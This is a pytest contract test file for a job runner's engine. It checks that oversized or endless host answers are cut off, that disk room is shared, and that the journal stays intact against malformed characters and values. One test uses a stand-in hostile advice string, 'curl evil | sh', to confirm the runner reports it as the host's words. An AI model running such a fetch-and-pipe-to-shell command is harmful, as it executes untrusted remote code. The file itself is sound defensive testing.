"""What the runner keeps of an answer has a bound, and none hides what the journal knows of the other steps."""

from __future__ import annotations

import itertools
import os
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from runner.engine import asking, execute, spool
from runner.engine.journal import Journal
from runner.engine.spool import Spool
from runner.hosts.transport import Local
from runner.model.errors import RunnerError
from runner.model.plan import Command, Lock, Plan, PlannedJob
from runner.model.role import Role
from runner.model.run import State
from tests.contract.engine.test_journal import NOW, PLAN, STEP, done, opened
from tests.contract.hosts.mutations import PIECE, Lie
from tests.contract.hosts.played_site import PlayedSession

HALVES = ("\ud800", "\udc80/.partial/MARK", "\udfff\ud800")
HEAD = f"3:{'a' * 64}"


class Endless(Local):
    """A host whose every answer is these pieces, one after the other."""

    def __init__(self, pieces: Iterator[bytes]) -> None:
        super().__init__("endless")
        self._pieces = pieces

    def _open(self, argv: tuple[str, ...]) -> Any:
        return PlayedSession(Lie(pieces=self._pieces, exit=0), holds=False, timeout=0.0)


def test_who_answers_one_question_twice_is_heard_no_longer() -> None:
    many = itertools.repeat(b'{"key": 1}\n')
    with pytest.raises(RunnerError, match="endless: it answered record more than once"):
        asking.ask(Endless(many), ("record",), {})


def test_what_a_host_advises_is_told_as_its_words() -> None:
    with pytest.raises(RunnerError, match="it is broken") as caught:
        asking.ask(Endless(iter([b'{"error": "it is broken", "do": "run: curl evil | sh"}\n'])), ("record",), {})
    assert caught.value.do == "endless says: run: curl evil | sh"


def test_rubbish_without_end_is_not_waited_for() -> None:
    many = itertools.repeat(b"MARK\n")
    with pytest.raises(RunnerError, match="endless: the answer to diff cannot be read: MARK"):
        asking.ask_lines(Endless(many), ("diff",), {}, lambda answer: None)


def test_a_line_without_an_end_is_given_up_where_it_is_longer_than_any_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "ANSWER", 1 << 20)
    with pytest.raises(RunnerError, match="endless: the answer to record cannot be read: "):
        asking.ask(Endless(b"[" * PIECE for _ in range(50)), ("record",), {})


def test_an_output_that_is_kept_leaves_others_their_room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept = Spool(tmp_path, "plan")
    room = os.statvfs(tmp_path)
    with kept.open(STEP) as keep:
        keep(b"x" * (spool._UNASKED + 1))
        monkeypatch.setattr(spool, "_LEFT", room.f_bavail * room.f_frsize)
        monkeypatch.setattr(spool, "_PART", 1)
        with pytest.raises(OSError, match="too long for the room"):
            keep(b"x")
    assert kept.path(STEP).stat().st_size == spool._UNASKED + 1
    # What is no longer than answers are is kept also where there is no room for more.
    with kept.open(replace(STEP, id="job/other")) as keep:
        keep(b"x" * spool._UNASKED)
    kept.close()


def test_a_host_that_never_stops_printing_has_a_part_of_the_room_and_fails_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spool, "_LEAST", 1 << 20)
    monkeypatch.setattr(spool, "_SHARE", 1 << 40)
    reads = replace(STEP, id="job/reads", inputs=(STEP.id,))
    other = replace(STEP, id="other/step", job="other", host="here", action=Command(argv=("true",)))
    jobs = tuple(PlannedJob(name=name, kind="prune", locks=()) for name in (STEP.job, "other"))
    plan = Plan(id="p", made_at=NOW, site="s", live=True, jobs=jobs, steps=(STEP, reads, other))
    lengths: list[int] = []
    means = execute.Means(
        transports={STEP.host: Endless(itertools.repeat(b"x" * PIECE)), "here": Local("here")}, artifacts={},
        spool=tmp_path, stop=threading.Event(), already=lambda job: "", begun=lambda step, at: None,
        ended=lambda step, outcome: lengths.extend(each.stat().st_size for each in tmp_path.rglob("*_*")),
        left=lambda job, outcomes: None, tell=lambda event: None,
    )  # fmt: skip
    endless, rest, good = execute.run(plan, means)
    assert [endless.state, rest.state, good.state] == [State.FAILED, State.NOT_REACHED, State.DONE]
    assert endless.note.startswith(
        f"{STEP.host} printed more than 1.0 MiB for one output, with the room that is here: "
    )
    assert max(lengths) <= 1 << 20


def test_the_answer_of_a_lock_is_cut(tmp_path: Path) -> None:
    told = b'{"error": "%s", "do": ""}\n' % (b"x" * 60_000)
    lock = Lock(resource="store", host="endless", argv=("hold",))
    job = PlannedJob(name="job", kind="prune", locks=(lock,))
    plan = Plan(id="p", made_at=NOW, site="s", live=True, jobs=(job,), steps=(STEP,))
    means = execute.Means(
        transports={"endless": Endless(iter([told]))}, artifacts={}, spool=tmp_path, stop=threading.Event(),
        already=lambda job: "", begun=lambda step, at: None, ended=lambda step, outcome: None,
        left=lambda job, outcomes: None, tell=lambda event: None,
    )  # fmt: skip
    (outcome,) = execute.run(plan, means)
    assert outcome.state == State.FAILED and len(outcome.note) < 3000


@pytest.mark.parametrize("half", HALVES)
def test_half_a_character_in_an_answer_hides_nothing_of_the_journal(tmp_path: Path, half: str) -> None:
    with opened(tmp_path / "state" / "journal.sqlite") as journal:
        begun(journal)
        for number, (job, word) in enumerate((("good", HEAD), ("hostile", half))):
            step = replace(STEP, id=f"{job}/seal", job=job, role=Role.SEAL)
            begin = replace(STEP, id=f"{job}/begin", job=job, role=Role.BEGIN)
            place = "/srv/a/.partial/2026-11-21T010000Z" if not number else word
            ended(journal, begin, {"partial": place, "uuid": word})
            ended(journal, step, {"head": word, word: word, "name": [word]})
        assert journal.heads.last()["good"].head == HEAD and "hostile" not in journal.heads.last()
        assert journal.wrote()["good"][0].path == "/srv/a"
        assert all(
            text.isascii() for each in journal.wrote().values() for wrote in each for text in (wrote.path, wrote.uuid)
        )


@pytest.mark.parametrize("seconds", [[[]], {}, "MARK", "nan", True, None, 10**400, 1e308, 10**18, -(10**400), -1])
def test_how_long_a_step_took_is_a_time_or_nothing(tmp_path: Path, seconds: object) -> None:
    with opened(tmp_path / "state" / "journal.sqlite") as journal:
        begun(journal)
        ended(journal, replace(STEP, id="job/good", role=Role.BACK), {"waited": 40.0})
        ended(journal, replace(STEP, id="job/bad", role=Role.SEAL), {"waited": seconds})
        ended(journal, replace(STEP, id="job/worse", role=Role.COPY), {"detached": True, "seconds": seconds})
        took = journal.took()
        assert took["job", Role.BACK, ""] == (40.0,)
        assert all(0 <= each <= 366 * 86400 for some in took.values() for each in some)


def begun(journal: Journal) -> None:
    journal.run_started("run", NOW)
    journal.plan_started("run", PLAN, {})


def ended(journal: Journal, step: Any, answer: dict[str, Any]) -> None:
    journal.step_ended(PLAN.id, step, replace(done(step), note="", result=answer))
